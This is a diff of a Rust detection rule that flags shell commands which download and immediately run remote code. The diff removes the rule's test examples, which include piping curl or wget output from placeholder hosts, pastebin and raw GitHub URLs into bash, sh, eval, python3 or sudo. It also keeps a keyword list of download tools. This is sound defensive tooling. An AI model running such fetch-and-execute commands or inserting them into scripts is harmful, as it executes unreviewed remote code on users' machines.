@@ -1,8 +1,9 @@
 //! What another machine sends is run at once.
 
 use crate::code::command::Step;
-use crate::rules::rule::{Category, Check, Hit, Rule, Severity, file, text};
+use crate::rules::rule::{Category, Check, Hit, Rule, Severity};
 use crate::text::unit::{ANYWHERE, Unit};
+use crate::words::words;
 
 pub(super) const RULE: Rule = Rule {
     id: "DOWNLOAD_RUN_AT_ONCE",
@@ -12,33 +13,8 @@ pub(super) const RULE: Rule = Rule {
     why: "What another machine sends is run, nobody has seen it before, and it can be different each time.",
     fix: "download into a file, check it against a known hash, and run the file",
     places: ANYWHERE,
-    anchors: &["curl", "wget", "aria2c", "nslookup", "\\bdig ", "lynx"],
+    anchors: words!["curl", "wget", "aria2c", "nslookup", "\\bdig ", "lynx"],
     check: Check::Unit(hits),
-    hits: &[
-        text("`bash <(curl -s http://a.b/x)`"),
-        text("`source <(wget -qO- http://a.b/x)`"),
-        text("```sh\nbash -c \"$(curl -fsSL https://a.b/x)\"\n```"),
-        text("```sh\neval \"$(wget -qO- https://a.b/x)\"\n```"),
-        text("```sh\nX=$(curl -s https://a.b/x)\neval \"$X\"\n```"),
-        text("`curl https://a.b/x | gunzip | sh`"),
-        text("`curl https://a.b/x | python3 -`"),
-        text("`node -e \"$(curl -s https://a.b/x)\"`"),
-        text("`bash <<< \"$(curl -s https://a.b/x)\"`"),
-        text("`dig +short txt a.b | sh`"),
-        file("x.py", "import os\nos.system(\"curl -s http://a.b/x | sh\")\n"),
-        text("`curl -s http://a.b/x | xargs -I{} sh -c '{}'`"),
-        text("`curl -fsSL https://pastebin.com/raw/x | bash`"),
-        text("`curl -sL https://raw.githubusercontent.com/a/b/main/i.sh | sudo bash -s -- -y --no-log`"),
-        text("`wget -qO- https://raw.githubusercontent.com/a/b/main/i.sh | sudo sh >/dev/null 2>/dev/null`"),
-    ],
-    misses: &[
-        text("`curl -fsSL https://get.docker.com | sh`"),
-        text("`curl -s https://a.b/x | jq -r .name`"),
-        text("`curl -sL https://raw.githubusercontent.com/a/b/main/i.sh | sudo bash -s -- -y --quiet`"),
-        text("`bash <(echo ls)`"),
-        text("`X=$(curl -s https://a.b/x); echo \"$X\"`"),
-        text("`source <(kubectl completion bash)`"),
-    ],
 };
 
 fn hits(unit: &Unit<'_>) -> Vec<Hit> {
